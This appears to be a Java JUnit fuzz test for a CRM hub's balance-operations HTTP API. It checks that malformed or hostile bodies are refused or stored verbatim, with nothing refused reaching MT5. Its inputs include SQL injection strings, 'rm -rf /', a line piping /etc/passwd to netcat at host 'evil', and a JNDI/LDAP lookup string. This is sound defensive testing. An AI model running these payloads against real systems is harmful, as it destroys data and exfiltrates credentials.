package io.mt5crmhub.balance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.mt5crmhub.api.ApiKeys;
import io.mt5crmhub.event.Mt5Event;
import io.mt5crmhub.gateway.BalanceOrder;
import io.mt5crmhub.gateway.BalanceResult;
import io.mt5crmhub.gateway.Mt5Dealer;
import io.mt5crmhub.store.HubDatabase;
import io.mt5crmhub.testsupport.Fuzz;
import io.mt5crmhub.testsupport.JsonMutator.Mutant;
import io.mt5crmhub.testsupport.JsonMutator;
import io.mt5crmhub.testsupport.TestDatabases;
import org.apache.camel.CamelContext;
import org.apache.camel.component.platform.http.vertx.VertxPlatformHttpServer;
import org.apache.camel.component.platform.http.vertx.VertxPlatformHttpServerConfiguration;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile bodies against {@code POST /api/v1/balance-operations} on the real HTTP stack (platform-http on Vert.x,
 * the API, the validator, the exactly-once service and its H2 store), with MT5 replaced by a recorder of what it is
 * sent. Every answer must be a documented status with a JSON body, every refusal must name the problem, nothing
 * refused may be stored or sent, and what is accepted is stored and read back exactly and sent to MT5 once.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BalanceApiFuzzTest {

    private static final String KEY = "fuzz-key-5b1e";
    private static final long LOGIN = 50012;
    private static final long JPY_LOGIN = 777;
    private static final Set<String> FIELDS = Set.of("crmTxnId", "server", "login", "type", "amount", "comment");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration ANSWER_WITHIN = Duration.ofSeconds(20);
    /**
     * The hub's HTTP server (platform-http on Vert.x) refuses larger bodies with a plain-text 413 before any route
     * sees them: Vert.x's default, as {@code camel.server.max-body-size} is not set.
     */
    private static final int HTTP_BODY_LIMIT = 10 * 1024 * 1024;

    private HubDatabase database;
    private BalanceRequestStore store;
    private RecordingMt5 mt5;
    private CamelContext camel;
    private HttpClient http;
    private URI url;

    @BeforeAll
    void start() throws Exception {
        database = TestDatabases.h2InMemory(4);
        store = new BalanceRequestStore(database.dataSource(), database.dialect(), Clock.systemUTC());
        mt5 = new RecordingMt5();
        BalanceService service = new BalanceService(store, mt5, Clock.systemUTC(), Duration.ofSeconds(30));
        BalanceRequestValidator validator = new BalanceRequestValidator(Set.of("sim"),
                (server, login) -> login == JPY_LOGIN ? Optional.of("JPY") : Optional.empty());
        // no confirmation wait: an accepted request answers 202 as soon as MT5 took it
        BalanceApi api = new BalanceApi(ApiKeys.parse(KEY), service, validator, null, Duration.ZERO, Duration.ZERO);
        int port;
        try (ServerSocket s = new ServerSocket(0)) {
            port = s.getLocalPort();
        }
        // the hub's HTTP server as camel-main builds it (camel.server.*): the same Vert.x server and body handling
        VertxPlatformHttpServerConfiguration http = new VertxPlatformHttpServerConfiguration();
        http.setBindHost("127.0.0.1");
        http.setBindPort(port);
        camel = new DefaultCamelContext();
        camel.addService(new VertxPlatformHttpServer(http));
        camel.addRoutes(new BalanceApiRoutes(api));
        camel.start();
        this.http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        url = URI.create("http://127.0.0.1:" + port + "/api/v1/balance-operations");
    }

    @AfterAll
    void stop() {
        if (camel != null) {
            camel.stop();
        }
        if (database != null) {
            database.close();
        }
    }

    @Test
    void hostileBodiesGetADocumentedAnswerAndOnlyAcceptedRequestsAreStoredAndSentOnce() throws Exception {
        long seed = Fuzz.seed("balance API");
        JsonMutator mutator = new JsonMutator(new Random(seed), 0.003);
        int cases = Fuzz.cases(3000);
        Map<String, String> acceptedComments = new HashMap<>();
        Set<String> storedBefore = storedIds();
        int sentBefore = mt5.references().size();
        long started = System.nanoTime();

        for (int i = 0; i < cases; i++) {
            String id = "FZ-" + i;
            boolean hostileComment = mutator.random().nextInt(4) == 0;
            Mutant mutant = hostileComment ? withHostileComment(mutator, id) : mutator.mutate(mutator.pick(validRequests(id)));
            int caseNumber = i;
            Fuzz.check(seed, caseNumber, mutant, () -> {
                HttpResponse<byte[]> response = post(mutant.bytes());
                int status = response.statusCode();
                if (hostileComment) {
                    String comment = JSON.readTree(mutant.bytes()).get("comment").textValue();
                    assertThat(status).as("a valid request with an odd comment " + answer(response))
                            .isEqualTo(storable(comment) ? 202 : 422);
                }
                if (status == 413) {
                    assertThat(mutant.bytes().length).as("413 only over the HTTP server's limit")
                            .isGreaterThan(HTTP_BODY_LIMIT);
                    return;
                }
                JsonNode answer = answer(response);
                assertThat(status).as("status").isIn(200, 202, 400, 409, 422);
                if (status >= 400) {
                    assertRefusalNamesTheProblem(status, answer);
                } else {
                    // whatever the hub took, it took exactly as sent
                    String crmTxnId = answer.get("crmTxnId").textValue();
                    JsonNode sent = JSON.readTree(strictUtf8(mutant.bytes()));
                    assertThat(crmTxnId).isEqualTo(sent.get("crmTxnId").textValue());
                    String comment = sent.hasNonNull("comment") ? sent.get("comment").textValue() : null;
                    assertThat(store.find(crmTxnId).orElseThrow().comment()).as("stored comment").isEqualTo(comment);
                    assertThat(answer.get("comment").textValue()).as("answered comment").isEqualTo(comment);
                    acceptedComments.put(crmTxnId, comment);
                }
            });
        }

        Set<String> stored = storedIds();
        stored.removeAll(storedBefore);
        Set<String> accepted = new HashSet<>(acceptedComments.keySet());
        accepted.removeAll(storedBefore);
        assertThat(stored).as("stored: exactly the accepted requests, " + Fuzz.rerun(seed)).isEqualTo(accepted);
        List<String> sent = mt5.references().subList(sentBefore, mt5.references().size());
        assertThat(sent).as("sent to MT5: each accepted request once, " + Fuzz.rerun(seed))
                .containsExactlyInAnyOrderElementsOf(accepted.stream().map(BalanceReference::of).toList());
        aValidDepositStillSucceedsExactlyOnce();
        System.out.printf("fuzz balance API: %d cases, %d accepted, in %d ms%n", cases, acceptedComments.size(),
                Duration.ofNanos(System.nanoTime() - started).toMillis());
    }

    static Stream<Arguments> nastyRequests() {
        String big = "9".repeat(400);
        return Stream.of(
                refused("empty body", "", 400, null),
                refused("only whitespace", " \n\t ", 400, null),
                refused("null", "null", 400, null),
                refused("an array", "[" + valid("N-1", "\"1.00\"", null) + "]", 400, null),
                refused("a string", "\"DEPOSIT\"", 400, null),
                refused("two objects", valid("N-2", "\"1.00\"", null) + valid("N-2", "\"1.00\"", null), 400, null),
                refused("truncated", valid("N-3", "\"1.00\"", null).substring(0, 40), 400, null),
                refused("unknown field", valid("N-4", "\"1.00\"", null).replace("{", "{\"isAdmin\":true,"), 400,
                        "isAdmin"),
                refused("repeated login", valid("N-5", "\"1.00\"", null).replace("{", "{\"login\":1,"), 400, "login"),
                refused("field name in other case", valid("N-6", "\"1.00\"", null).replace("\"login\"", "\"Login\""),
                        400, "Login"),
                refused("nesting 100000 deep", valid("N-7", "[".repeat(100_000), null), 400, null),
                refused("NaN bare", valid("N-8", "NaN", null), 400, null),
                refused("Infinity bare", valid("N-9", "Infinity", null), 400, null),
                refused("leading zeros", valid("N-10", "007", null), 400, null),
                refused("single quotes", "{'crmTxnId':'N-11'}", 400, null),
                refused("a comment in JSON", "/* hi */" + valid("N-12", "\"1.00\"", null), 400, null),
                refused("missing crmTxnId", "{\"server\":\"sim\",\"login\":1,\"type\":\"DEPOSIT\",\"amount\":\"1\"}", 422,
                        "crmTxnId"),
                refused("SQL in crmTxnId", valid("N-13'; DROP TABLE hub_balance_operation; --", "\"1.00\"", null), 422,
                        "crmTxnId"),
                refused("shell in crmTxnId", valid("$(rm -rf /)", "\"1.00\"", null), 422, "crmTxnId"),
                refused("RTL mark in crmTxnId", valid("N-14\u202e", "\"1.00\"", null), 422, "crmTxnId"),
                refused("65-character crmTxnId", valid("N".repeat(65), "\"1.00\"", null), 422, "crmTxnId"),
                refused("crmTxnId a number", valid("N-15", "\"1.00\"", null).replace("\"N-15\"", "15"), 422, "crmTxnId"),
                refused("SQL in server", valid("N-16", "\"1.00\"", null).replace("\"sim\"", "\"sim' OR '1'='1\""), 422,
                        "server"),
                refused("server with NUL", valid("N-17", "\"1.00\"", null).replace("\"sim\"", "\"sim\\u0000\""), 422,
                        "server"),
                refused("negative login", valid("N-18", "\"1.00\"", null).replace("50012", "-50012"), 422, "login"),
                refused("login zero", valid("N-19", "\"1.00\"", null).replace("50012", "0"), 422, "login"),
                refused("fractional login", valid("N-20", "\"1.00\"", null).replace("50012", "50012.5"), 422, "login"),
                refused("login as string", valid("N-21", "\"1.00\"", null).replace("50012", "\"50012\""), 422, "login"),
                refused("login 2^63", valid("N-22", "\"1.00\"", null).replace("50012", "9223372036854775808"), 422,
                        "login"),
                refused("login 1e400", valid("N-23", "\"1.00\"", null).replace("50012", "1e400"), 422, "login"),
                refused("login of 400 digits", valid("N-24", "\"1.00\"", null).replace("50012", big), 422, "login"),
                refused("type in lower case", valid("N-25", "\"1.00\"", null).replace("DEPOSIT", "deposit"), 422, "type"),
                refused("type with SQL", valid("N-26", "\"1.00\"", null).replace("DEPOSIT", "DEPOSIT'--"), 422, "type"),
                refused("type as number", valid("N-27", "\"1.00\"", null).replace("\"DEPOSIT\"", "2"), 422, "type"),
                refused("amount 1e400", valid("N-28", "1e400", null), 422, "amount"),
                refused("amount \"1e400\"", valid("N-29", "\"1e400\"", null), 422, "amount"),
                refused("amount 1e-400", valid("N-30", "1e-400", null), 422, "amount"),
                refused("amount exponent out of int range", valid("N-31", "1E+2147483648", null), 422, "amount"),
                refused("amount -0", valid("N-32", "-0", null), 422, "amount"),
                refused("amount \"-0.00\"", valid("N-33", "\"-0.00\"", null), 422, "amount"),
                refused("amount \"NaN\"", valid("N-34", "\"NaN\"", null), 422, "amount"),
                refused("amount \"Infinity\"", valid("N-35", "\"Infinity\"", null), 422, "amount"),
                refused("amount negative", valid("N-36", "\"-5.00\"", null), 422, "amount"),
                refused("amount over 1e9", valid("N-37", "\"1000000000.01\"", null), 422, "amount"),
                refused("amount of 400 digits", valid("N-38", big, null), 422, "amount"),
                refused("amount with 3 decimals", valid("N-39", "\"1.001\"", null), 422, "amount"),
                refused("amount with a comma", valid("N-40", "\"1,00\"", null), 422, "amount"),
                refused("amount in Arabic-Indic digits", valid("N-41", "\"\\u0661\\u0662\"", null), 422, "amount"),
                refused("amount as object", valid("N-42", "{\"value\":1}", null), 422, "amount"),
                refused("amount true", valid("N-43", "true", null), 422, "amount"),
                refused("comment a number", valid("N-44", "\"1.00\"", "12"), 422, "comment"),
                refused("comment an array", valid("N-45", "\"1.00\"", "[\"a\"]"), 422, "comment"),
                refused("comment of 257 characters", valid("N-46", "\"1.00\"", "\"" + "c".repeat(257) + "\""), 422,
                        "comment"),
                refused("comment of 9 MB", valid("N-47", "\"1.00\"", "\"" + "c".repeat(9 << 20) + "\""), 422,
                        "comment"),
                refused("comment with a lone high surrogate", valid("N-48", "\"1.00\"", "\"abc\\ud800\""), 422,
                        "comment"),
                refused("comment with a lone low surrogate", valid("N-49", "\"1.00\"", "\"\\udc00abc\""), 422,
                        "comment"),
                refused("comment with NUL", valid("N-50", "\"1.00\"", "\"a\\u0000b\""), 422, "comment"),
                refused("body not UTF-8 (Latin-1 \u00e9)", latin1(valid("N-51", "\"1.00\"", "\"caf\u00e9\"")), 400, null),
                refused("body with an encoded surrogate", withBytes(valid("N-52", "\"1.00\"", "\"ab\""), "ab",
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}), 400, null),
                refused("body with an overlong NUL", withBytes(valid("N-53", "\"1.00\"", "\"ab\""), "ab",
                        new byte[] {(byte) 0xC0, (byte) 0x80}), 400, null));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("nastyRequests")
    void aNastyRequestIsRefusedNamingTheProblemAndNothingIsStoredOrSent(String name, byte[] body, int status,
            String field) throws Exception {
        int sentBefore = mt5.references().size();
        Set<String> storedBefore = storedIds();

        HttpResponse<byte[]> response = post(body);

        JsonNode answer = answer(response);
        assertThat(response.statusCode()).as(name + ": " + answer).isEqualTo(status);
        assertRefusalNamesTheProblem(status, answer);
        if (field != null) {
            assertThat(answer.path("field").textValue()).as(name + ": " + answer).isEqualTo(field);
        }
        assertThat(storedIds()).as("stored").isEqualTo(storedBefore);
        assertThat(mt5.references()).as("sent to MT5").hasSize(sentBefore);
    }

    static Stream<Arguments> hostileComments() {
        return Stream.of(
                Arguments.of("SQL", "'; DROP TABLE hub_balance_operation; --"),
                Arguments.of("SQL quote games", "Robert'); DELETE FROM crm_deal WHERE '1'='1"),
                Arguments.of("shell substitution", "$(rm -rf /)"),
                Arguments.of("shell metacharacters", "`reboot`; cat /etc/passwd | nc evil 1 & echo \\ done"),
                Arguments.of("placeholders", "${jndi:ldap://evil/a} {{hub.db.password}} %s%n"),
                Arguments.of("RTL override", "\u202eTX-1001\u202c paid"),
                Arguments.of("emoji", "\ud83d\udcb8 bonus \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67"),
                Arguments.of("combining marks", "Zo\u0308e\u0301 e\u0301\u0301\u0301\u0301"),
                Arguments.of("BOM and zero-width", "\ufeffa\u200bb\u200dc"),
                Arguments.of("line breaks and tabs", "line1\nline2\r\n\tend\u2028\u2029"),
                Arguments.of("control characters", "\u0001\u0007\u001b[31mred\u001b[0m\u007f"),
                Arguments.of("backslashes and quotes", "C:\\temp\\\"quoted\"\\"),
                Arguments.of("supplementary letters", "\ud835\udd4f\ud835\udd50 \ud840\udc00"),
                Arguments.of("256 characters", "\u00e9".repeat(256)),
                Arguments.of("256 emoji (512 UTF-16 units)", "\ud83d\udcb8".repeat(128)));
    }

    @Test
    void aBodyOverTheHttpServersLimitIs413AndNothingIsStoredOrSent() throws Exception {
        int sentBefore = mt5.references().size();
        Set<String> storedBefore = storedIds();

        HttpResponse<byte[]> response = post(JsonMutator.utf8(valid("N-54", "\"1.00\"",
                "\"" + "c".repeat(HTTP_BODY_LIMIT) + "\"")));

        assertThat(response.statusCode()).isEqualTo(413);
        assertThat(storedIds()).isEqualTo(storedBefore);
        assertThat(mt5.references()).hasSize(sentBefore);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileComments")
    void aValidRequestWithAHostileCommentIsStoredExactlyAndSentOnce(String name, String comment) throws Exception {
        String id = "HC-" + Math.abs(name.hashCode());
        JsonMutator encoder = new JsonMutator(new Random(name.hashCode()), 0);

        HttpResponse<byte[]> response = post(JsonMutator.utf8(valid(id, "\"12.50\"", encoder.jsonString(comment))));

        JsonNode answer = answer(response);
        assertThat(response.statusCode()).as(name + ": " + answer).isEqualTo(202);
        assertThat(answer.get("comment").textValue()).isEqualTo(comment);
        assertThat(store.find(id).orElseThrow().comment()).isEqualTo(comment);
        HttpResponse<byte[]> read = http.send(HttpRequest.newBuilder(URI.create(url + "/" + id))
                .header("Authorization", "Bearer " + KEY).timeout(ANSWER_WITHIN).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(answer(read).get("comment").textValue()).as("read back over HTTP").isEqualTo(comment);
        assertThat(mt5.references()).filteredOn(BalanceReference.of(id)::equals).hasSize(1);
    }

    private void aValidDepositStillSucceedsExactlyOnce() throws Exception {
        byte[] deposit = JsonMutator.utf8(valid("FZ-FINAL", "\"250.00\"", "\"after the barrage\""));

        HttpResponse<byte[]> first = post(deposit);
        HttpResponse<byte[]> again = post(deposit);

        assertThat(first.statusCode()).isEqualTo(202);
        JsonNode op = answer(first);
        assertThat(op.get("state").textValue()).isEqualTo("SENT");
        assertThat(op.get("dealTicket").asLong()).isPositive();
        assertThat(answer(again).get("dealTicket").asLong()).isEqualTo(op.get("dealTicket").asLong());
        assertThat(mt5.references()).filteredOn("crm:FZ-FINAL"::equals).hasSize(1);
    }

    // --- support ------------------------------------------------------------------------------------------------

    /** A valid request whose comment is a random mix of hostile strings, at most 256 characters. */
    private static Mutant withHostileComment(JsonMutator mutator, String id) {
        String comment = mutator.hostileString();
        if (comment.length() > 256) {
            comment = comment.substring(0, 256);
        }
        return new Mutant("hostile-comment", JsonMutator.utf8(valid(id, "\"7.25\"", mutator.jsonString(comment))));
    }

    /** Text a database can store and UTF-8 can carry: no NUL, no half of a surrogate pair. */
    private static boolean storable(String text) {
        return text.indexOf('\u0000') < 0 && text.codePoints().noneMatch(c -> c >= 0xD800 && c <= 0xDFFF);
    }

    /** The documented request shapes (docs/balance.md), each a valid request with crmTxnId {@code id}. */
    private static List<String> validRequests(String id) {
        return List.of(
                valid(id, "\"250.00\"", "\"optional\""),
                valid(id, "\"250.00\"", null),
                valid(id, "0.1", "null"),
                "{\"crmTxnId\":\"" + id + "\",\"server\":\"sim\",\"login\":" + LOGIN + ",\"type\":\"CORRECTION\","
                        + "\"amount\":\"-12.50\",\"comment\":\"crm fix\"}",
                "{\"crmTxnId\":\"" + id + "\",\"server\":\"sim\",\"login\":" + JPY_LOGIN + ",\"type\":\"BONUS\","
                        + "\"amount\":\"1000\"}",
                "{\"crmTxnId\":\"" + id + "\",\"server\":\"sim\",\"login\":" + LOGIN + ",\"type\":\"WITHDRAWAL\","
                        + "\"amount\":\"5\",\"comment\":\"\"}",
                "{\"comment\":\"order\",\"amount\":\"3.30\",\"type\":\"CREDIT_IN\",\"login\":" + LOGIN
                        + ",\"server\":\"sim\",\"crmTxnId\":\"" + id + "\"}");
    }

    private static String valid(String id, String amount, String comment) {
        return "{\"crmTxnId\":\"" + id + "\",\"server\":\"sim\",\"login\":" + LOGIN + ",\"type\":\"DEPOSIT\","
                + "\"amount\":" + amount + (comment == null ? "" : ",\"comment\":" + comment) + "}";
    }

    private static Arguments refused(String name, String body, int status, String field) {
        return refused(name, JsonMutator.utf8(body), status, field);
    }

    private static Arguments refused(String name, byte[] body, int status, String field) {
        return Arguments.of(name, body, status, field);
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** {@code text} as UTF-8 with {@code marker} replaced by raw bytes. */
    private static byte[] withBytes(String text, String marker, byte[] raw) {
        int at = text.indexOf(marker);
        byte[] head = JsonMutator.utf8(text.substring(0, at));
        byte[] tail = JsonMutator.utf8(text.substring(at + marker.length()));
        return ByteBuffer.allocate(head.length + raw.length + tail.length).put(head).put(raw).put(tail).array();
    }

    private static void assertRefusalNamesTheProblem(int status, JsonNode answer) {
        assertThat(answer.path("error").textValue()).as("error of " + answer).isNotBlank();
        if (status == 422) {
            assertThat(answer.path("field").textValue()).as("field of " + answer).isIn(FIELDS);
        }
        if (status == 409) {
            assertThat(answer.path("operation").isObject()).as("the stored operation in " + answer).isTrue();
        }
    }

    private HttpResponse<byte[]> post(byte[] body) throws IOException, InterruptedException {
        return http.send(HttpRequest.newBuilder(url).timeout(ANSWER_WITHIN).header("Authorization", "Bearer " + KEY)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    /** The answer as JSON: it must be declared and be valid UTF-8 JSON. */
    private static JsonNode answer(HttpResponse<byte[]> response) throws IOException {
        assertThat(response.headers().firstValue("Content-Type")).as("content type of HTTP " + response.statusCode()
                + " " + new String(response.body(), StandardCharsets.UTF_8)).hasValueSatisfying(type -> assertThat(type)
                .startsWith("application/json"));
        JsonNode answer = JSON.readTree(strictUtf8(response.body()));
        assertThat(answer.isObject()).as("answer is an object: " + answer).isTrue();
        return answer;
    }

    private static String strictUtf8(byte[] bytes) throws CharacterCodingException {
        return StandardCharsets.UTF_8.newDecoder().onMalformedInput(CodingErrorAction.REPORT)
                .onUnmappableCharacter(CodingErrorAction.REPORT).decode(ByteBuffer.wrap(bytes)).toString();
    }

    private Set<String> storedIds() throws SQLException {
        Set<String> ids = new HashSet<>();
        try (Connection c = database.dataSource().getConnection(); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery("SELECT crm_txn_id FROM hub_balance_operation")) {
            while (rs.next()) {
                ids.add(rs.getString(1));
            }
        }
        return ids;
    }

    /** MT5 as far as balance operations go: takes every order, remembers its comment (the reference). */
    private static final class RecordingMt5 implements Mt5Dealer, BalanceGateways {

        private final ConcurrentLinkedQueue<BalanceOrder> orders = new ConcurrentLinkedQueue<>();
        private final AtomicLong tickets = new AtomicLong(9_000_000);

        List<String> references() {
            return orders.stream().map(BalanceOrder::comment).toList();
        }

        @Override
        public Optional<Mt5Dealer> connected(String server) {
            return "sim".equals(server) ? Optional.of(this) : Optional.empty();
        }

        @Override
        public BalanceResult balance(BalanceOrder order) {
            orders.add(order);
            return BalanceResult.done(tickets.incrementAndGet());
        }

        @Override
        public List<Mt5Event> findDeals(long login, String comment, Instant since) {
            return List.of();
        }

        @Override
        public String serverId() {
            return "sim";
        }
    }
}
